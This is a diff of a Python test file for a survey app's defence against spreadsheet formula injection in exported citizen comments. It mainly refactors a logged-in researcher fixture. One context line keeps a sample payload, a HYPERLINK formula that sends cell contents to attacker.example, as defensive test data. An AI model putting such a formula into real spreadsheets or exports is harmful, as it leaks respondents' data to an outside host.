@@ -27,7 +27,6 @@ from sqlalchemy import select
 from surveyor.exports.formulas import FORMULA_STARTS, inert
 from surveyor.models import Instrument, ServicePoint
 from surveyor.responses import record_response
-from tests.conftest import csrf_token
 
 # The strings of the penetration test, and the two whitespace starts OWASP lists.
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2&B2,"Click for details")'
@@ -71,15 +70,12 @@ def test_other_values_are_unchanged(text):
 # ---- Responses: the citizens' comments ----
 
 @pytest.fixture
-def researcher(app, client, loaded, make_user):
+def researcher(loaded, researcher):
+    """The suite's logged-in researcher, with the point whose code is a formula imported."""
     from surveyor.service_points.importer import import_points
     import_points(loaded.session, POINTS)
     loaded.session.commit()
-    make_user("nahid", "researcher", "a strong pass phrase")
-    page = client.get("/login")
-    client.post("/login", data={"csrf_token": csrf_token(page.get_data(as_text=True)), "username": "nahid",
-                                "password": "a strong pass phrase"})
-    return client
+    return researcher
 
 
 @pytest.fixture
